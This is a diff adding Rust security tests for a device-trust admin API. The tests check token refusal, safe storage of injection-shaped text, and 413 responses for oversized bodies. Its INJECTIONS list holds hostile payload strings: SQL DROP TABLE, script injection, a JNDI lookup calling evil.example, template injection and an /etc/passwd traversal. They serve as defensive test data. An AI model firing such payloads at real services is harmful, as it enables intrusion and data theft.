@@ -1,0 +1,423 @@
+//! Admin API security: every route refuses a missing, malformed, wrong or
+//! rotated-away token; injection-shaped text is stored and returned
+//! verbatim or refused with 400, never executed and never a 500; oversized
+//! bodies get 413 as Okta's error object.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing,
+    reason = "tests: a panic is a failed test"
+)]
+
+mod common;
+
+use std::io::{Read, Write};
+
+use common::{Server, assert_error};
+use devicetrust_devices::Platform;
+use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
+use serde_json::{Value, json};
+
+/// Every admin route, with a body where it takes one.
+fn routes() -> Vec<(&'static str, &'static str, Option<Value>)> {
+    let integration = json!({"platform": "ANDROID", "providerName": "UEM", "enrollmentLink": "https://uem.example"});
+    let policy = json!({"policy": {"id": "rst1", "name": "p", "type": "ACCESS_POLICY", "status": "ACTIVE"},
+                        "rules": [{"id": "rul1", "name": "r", "priority": 1, "status": "ACTIVE",
+                                   "actions": {"appSignOn": {"access": "ALLOW"}}}]});
+    let assurance = json!({"id": "dae1", "name": "a", "platform": "IOS"});
+    vec![
+        ("POST", "/api/v1/api-tokens/current/rotate", None),
+        ("GET", "/api/v1/devices", None),
+        ("GET", "/api/v1/devices/guo1", None),
+        ("DELETE", "/api/v1/devices/guo1", None),
+        ("GET", "/api/v1/devices/guo1/users", None),
+        ("POST", "/api/v1/devices/guo1/lifecycle/suspend", None),
+        ("POST", "/api/v1/devices/guo1/lifecycle/unsuspend", None),
+        ("POST", "/api/v1/devices/guo1/lifecycle/deactivate", None),
+        ("POST", "/api/v1/devices/guo1/lifecycle/activate", None),
+        ("GET", "/api/v1/users/alice/devices", None),
+        ("GET", "/api/v1/device-integrations", None),
+        ("POST", "/api/v1/device-integrations", Some(integration)),
+        ("GET", "/api/v1/device-integrations/dvi1", None),
+        (
+            "POST",
+            "/api/v1/device-integrations/dvi1/lifecycle/resetSecret",
+            None,
+        ),
+        (
+            "POST",
+            "/api/v1/device-integrations/dvi1/lifecycle/activate",
+            None,
+        ),
+        (
+            "POST",
+            "/api/v1/device-integrations/dvi1/lifecycle/deactivate",
+            None,
+        ),
+        ("GET", "/api/v1/certificate-authorities", None),
+        (
+            "POST",
+            "/api/v1/certificate-authorities",
+            Some(json!("not a certificate")),
+        ),
+        ("GET", "/api/v1/certificate-authorities/ca1", None),
+        ("DELETE", "/api/v1/certificate-authorities/ca1", None),
+        ("GET", "/api/v1/pki/intermediate", None),
+        ("GET", "/api/v1/policies", None),
+        ("POST", "/api/v1/policies", Some(policy.clone())),
+        ("GET", "/api/v1/policies/rst1", None),
+        ("PUT", "/api/v1/policies/rst1", Some(policy)),
+        ("DELETE", "/api/v1/policies/rst1", None),
+        ("GET", "/api/v1/device-assurances", None),
+        ("POST", "/api/v1/device-assurances", Some(assurance.clone())),
+        ("GET", "/api/v1/device-assurances/dae1", None),
+        ("PUT", "/api/v1/device-assurances/dae1", Some(assurance)),
+        ("DELETE", "/api/v1/device-assurances/dae1", None),
+        ("GET", "/api/v1/logs", None),
+    ]
+}
+
+#[test]
+fn every_admin_route_refuses_missing_malformed_wrong_and_old_tokens() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut server = Server::start(dir.path(), None);
+    let old = server.token.clone();
+    let rotated = server.ok("POST", "/api/v1/api-tokens/current/rotate", None, 201);
+    let new = rotated["token"].as_str().unwrap().to_owned();
+    assert!(new.starts_with("dtadm_") && new != old);
+    assert_ne!(rotated["id"], "");
+
+    let refused: Vec<Option<String>> = vec![
+        None,
+        Some(String::new()),
+        Some("SSWS".into()),
+        Some("SSWS ".into()),
+        Some(format!("Basic {new}")),
+        Some(format!("ssws{new}")),
+        Some(format!("SSWS {new}x")),
+        Some(format!("SSWS {}", &new[..new.len() - 1])),
+        Some("SSWS dtadm_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA".into()),
+        Some("Bearer '; DROP TABLE devices;--".into()),
+        Some(format!("SSWS {old}")),
+        Some(format!("Bearer {old}")),
+    ];
+    for (method, path, body) in routes() {
+        let bytes = body
+            .as_ref()
+            .map(|b| serde_json::to_vec(b).unwrap())
+            .unwrap_or_default();
+        for auth in &refused {
+            let answer = server.raw(
+                method,
+                path,
+                auth.as_deref(),
+                Some("application/json"),
+                &bytes,
+            );
+            let e = assert_error(&answer, 401, "E0000011");
+            assert_eq!(
+                e["errorSummary"], "Invalid token provided",
+                "{method} {path}"
+            );
+        }
+    }
+    // (A 401 also shows each route exists: an unknown one answers 404 first.)
+    // The new token works on every route, with either scheme; rotation is
+    // skipped, as it would revoke it.
+    for (scheme, (method, path, body)) in ["Bearer", "SSWS"]
+        .iter()
+        .cycle()
+        .zip(routes().into_iter().skip(1))
+    {
+        let bytes = body
+            .as_ref()
+            .map(|b| serde_json::to_vec(b).unwrap())
+            .unwrap_or_default();
+        let answer = server.raw(
+            method,
+            path,
+            Some(&format!("{scheme} {new}")),
+            Some("application/json"),
+            &bytes,
+        );
+        assert_ne!(answer.status, 401, "{method} {path}");
+        assert!(answer.status < 500, "{method} {path}: {}", answer.text());
+    }
+    // Rotating with the old token is refused too; the public CRL needs none.
+    server.token = old;
+    assert_error(
+        &server.call("POST", "/api/v1/api-tokens/current/rotate", None),
+        401,
+        "E0000011",
+    );
+    assert_eq!(server.raw("GET", "/pki/crl", None, None, b"").status, 200);
+    // Tokens are stored as digests only.
+    let settings = std::fs::read_to_string(dir.path().join("service.json")).unwrap();
+    assert!(!settings.contains(&new) && !settings.contains(&server.token));
+}
+
+const INJECTIONS: [&str; 8] = [
+    "'; DROP TABLE devices;--",
+    "<script>alert(1)</script>",
+    "${jndi:ldap://evil.example/a}",
+    "{{7*7}}",
+    "\" OR \"1\"=\"1",
+    "名前 🚀 \u{202e}gnp.exe",
+    "a\u{0}b",
+    "../../etc/passwd",
+];
+
+/// 2xx with `got == sent`, or a 400 refusal; anything else fails.
+fn verbatim_or_refused(
+    answer: &common::Answer,
+    field: &str,
+    sent: &str,
+    got: impl Fn(&Value) -> Value,
+) -> bool {
+    assert!(
+        answer.status < 500,
+        "{field} {sent:?}: {} {}",
+        answer.status,
+        answer.text()
+    );
+    if answer.status == 400 {
+        assert_error(answer, 400, "E0000001");
+        return false;
+    }
+    assert!(
+        (200..300).contains(&answer.status),
+        "{field} {sent:?}: {}",
+        answer.text()
+    );
+    assert_eq!(
+        got(&answer.json()),
+        Value::String(sent.to_owned()),
+        "{field}"
+    );
+    true
+}
+
+#[test]
+fn injection_shaped_text_is_kept_verbatim_or_refused_never_run() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start(dir.path(), None);
+    let enc = |s: &str| utf8_percent_encode(s, NON_ALPHANUMERIC).to_string();
+    let mut stored = 0;
+
+    for (i, text) in INJECTIONS.iter().enumerate() {
+        // Device display names and user ids (enrolled through the registry,
+        // which refuses control characters itself).
+        let mut profile = devicetrust_devices::DeviceProfile::new(*text, Platform::Windows);
+        profile.udid = Some(format!("U{i}"));
+        let enrolled = devicetrust_devices::UserId::new(*text).and_then(|user| {
+            profile.validate()?;
+            Ok(server
+                .service
+                .registry()
+                .enroll(
+                    &server.org(),
+                    &devicetrust_devices::Actor::new("t").unwrap(),
+                    &devicetrust_devices::EnrollmentRequest::new(user, profile),
+                    time::OffsetDateTime::now_utc(),
+                )
+                .unwrap())
+        });
+        if let Ok(device) = enrolled {
+            let got = server.call("GET", &format!("/api/v1/devices/{}", device.id), None);
+            verbatim_or_refused(&got, "displayName", text, |v| {
+                v["profile"]["displayName"].clone()
+            });
+            let search = format!(
+                "/api/v1/devices?search={}",
+                enc(&format!(
+                    "profile.displayName eq \"{}\"",
+                    text.replace('"', "\\\"")
+                ))
+            );
+            let found = server.ok("GET", &search, None, 200);
+            assert_eq!(found.as_array().unwrap().len(), 1, "{text:?}");
+            let mine = server.ok(
+                "GET",
+                &format!("/api/v1/users/{}/devices", enc(text)),
+                None,
+                200,
+            );
+            assert_eq!(mine[0]["device"]["id"], device.id.as_str(), "{text:?}");
+            stored += 1;
+        }
+
+        // Mobile integrations: provider names and enrollment links.
+        let body = json!({"platform": "IOS", "providerName": text, "enrollmentLink": "https://uem.example/enroll"});
+        let answer = server.call("POST", "/api/v1/device-integrations", Some(&body));
+        if verbatim_or_refused(&answer, "providerName", text, |v| v["providerName"].clone()) {
+            let id = answer.json()["id"].as_str().unwrap().to_owned();
+            let got = server.ok(
+                "GET",
+                &format!("/api/v1/device-integrations/{id}"),
+                None,
+                200,
+            );
+            assert_eq!(got["providerName"], *text);
+            stored += 1;
+        }
+        let link = format!("https://uem.example/enroll?q={text}");
+        let body = json!({"platform": "ANDROID", "providerName": "UEM", "enrollmentLink": link});
+        let answer = server.call("POST", "/api/v1/device-integrations", Some(&body));
+        if verbatim_or_refused(&answer, "enrollmentLink", &link, |v| {
+            v["enrollmentLink"].clone()
+        }) {
+            stored += 1;
+        }
+        let bare = json!({"platform": "ANDROID", "providerName": "UEM", "enrollmentLink": text});
+        assert_error(
+            &server.call("POST", "/api/v1/device-integrations", Some(&bare)),
+            400,
+            "E0000001",
+        );
+
+        // Assurance and policy names and ids.
+        let assurance = json!({"id": format!("dae{i}"), "name": text, "platform": "IOS"});
+        let answer = server.call("POST", "/api/v1/device-assurances", Some(&assurance));
+        if verbatim_or_refused(&answer, "assurance name", text, |v| v["name"].clone()) {
+            stored += 1;
+        }
+        let policy_id = format!("rst{i}{text}");
+        let policy = json!({"policy": {"id": policy_id, "name": text, "description": text, "type": "ACCESS_POLICY", "status": "ACTIVE"},
+                            "rules": [{"id": "rul1", "name": text, "priority": 1, "status": "ACTIVE",
+                                       "actions": {"appSignOn": {"access": "ALLOW"}}}]});
+        let answer = server.call("POST", "/api/v1/policies", Some(&policy));
+        if verbatim_or_refused(&answer, "policy name", text, |v| {
+            v["policy"]["name"].clone()
+        }) {
+            let got = server.ok(
+                "GET",
+                &format!("/api/v1/policies/{}", enc(&policy_id)),
+                None,
+                200,
+            );
+            assert_eq!(got["rules"][0]["name"], *text);
+            assert_eq!(got["policy"]["id"], policy_id.as_str());
+            stored += 1;
+        }
+
+        // Query strings and path segments: compared, never interpreted.
+        for url in [
+            format!(
+                "/api/v1/devices?search={}",
+                enc(&format!("status eq \"{}\"", text.replace('"', "\\\"")))
+            ),
+            format!("/api/v1/devices?after={}", enc(text)),
+            format!(
+                "/api/v1/logs?filter={}",
+                enc(&format!("target.id eq \"{}\"", text.replace('"', "\\\"")))
+            ),
+            format!("/api/v1/logs?since={}", enc(text)),
+            format!("/api/v1/devices/{}", enc(text)),
+            format!("/api/v1/device-integrations/{}", enc(text)),
+            format!("/api/v1/certificate-authorities/{}", enc(text)),
+        ] {
+            let answer = server.call("GET", &url, None);
+            assert!(
+                [200, 400, 404].contains(&answer.status),
+                "{url}: {} {}",
+                answer.status,
+                answer.text()
+            );
+            assert!(
+                answer.json().is_array() || answer.json()["errorCode"].is_string(),
+                "{url}"
+            );
+        }
+    }
+    assert!(
+        stored >= INJECTIONS.len() * 3,
+        "most of these are ordinary text and must be kept ({stored})"
+    );
+    // Nothing was executed: the tables are all there and whole.
+    let devices = server.ok("GET", "/api/v1/devices", None, 200);
+    assert!(devices.as_array().unwrap().len() >= INJECTIONS.len() - 1);
+    assert!(
+        server
+            .ok("GET", "/api/v1/logs?limit=1000", None, 200)
+            .as_array()
+            .unwrap()
+            .len()
+            > 10
+    );
+}
+
+/// A POST with a body of `len` bytes, over a raw socket (the server may
+/// answer before reading it all, which an HTTP client can take as an error).
+fn post_len(server: &Server, path: &str, len: usize, chunked: bool) -> (u16, Value) {
+    let addr = server.base.trim_start_matches("http://");
+    let mut stream = std::net::TcpStream::connect(addr).unwrap();
+    stream
+        .set_read_timeout(Some(std::time::Duration::from_secs(30)))
+        .unwrap();
+    let framing = if chunked {
+        "Transfer-Encoding: chunked".to_owned()
+    } else {
+        format!("Content-Length: {len}")
+    };
+    let head = format!(
+        "POST {path} HTTP/1.1\r\nHost: {addr}\r\nAuthorization: SSWS {}\r\nContent-Type: application/json\r\n{framing}\r\nConnection: close\r\n\r\n",
+        server.token
+    );
+    stream.write_all(head.as_bytes()).unwrap();
+    let chunk = vec![b' '; 64 * 1024];
+    let mut sent = 0;
+    while sent < len {
+        let n = chunk.len().min(len - sent);
+        let wrote = if chunked {
+            stream
+                .write_all(format!("{n:x}\r\n").as_bytes())
+                .and_then(|()| stream.write_all(&chunk[..n]))
+                .and_then(|()| stream.write_all(b"\r\n"))
+        } else {
+            stream.write_all(&chunk[..n])
+        };
+        // The server may refuse and close before the body is all sent.
+        if wrote.is_err() {
+            break;
+        }
+        sent += n;
+    }
+    if chunked {
+        let _ = stream.write_all(b"0\r\n\r\n");
+    }
+    let mut response = Vec::new();
+    let _ = stream.read_to_end(&mut response);
+    let text = String::from_utf8_lossy(&response);
+    let status: u16 = text.split(' ').nth(1).unwrap().parse().unwrap();
+    let body = text.split("\r\n\r\n").nth(1).unwrap_or_default();
+    (status, serde_json::from_str(body).unwrap_or(Value::Null))
+}
+
+#[test]
+fn oversized_bodies_get_413_as_okta_errors() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start(dir.path(), None);
+    let over = 1024 * 1024 + 1;
+    for path in [
+        "/api/v1/policies",
+        "/api/v1/device-assurances",
+        "/api/v1/device-integrations",
+        "/api/v1/certificate-authorities",
+        "/api/v1/device-integrations/dvi1/lifecycle/resetSecret",
+    ] {
+        for chunked in [false, true] {
+            let (status, body) = post_len(&server, path, over, chunked);
+            assert_eq!(status, 413, "{path} chunked={chunked}: {body}");
+            assert_eq!(body["errorCode"], "E0000001", "{path}: {body}");
+            assert!(
+                body["errorSummary"].as_str().unwrap().contains("limit"),
+                "{body}"
+            );
+        }
+        // Just under the limit is read (and refused for what it is, not its size).
+        let (status, _) = post_len(&server, path, 1024 * 1024, false);
+        assert_ne!(status, 413, "{path}");
+    }
+}
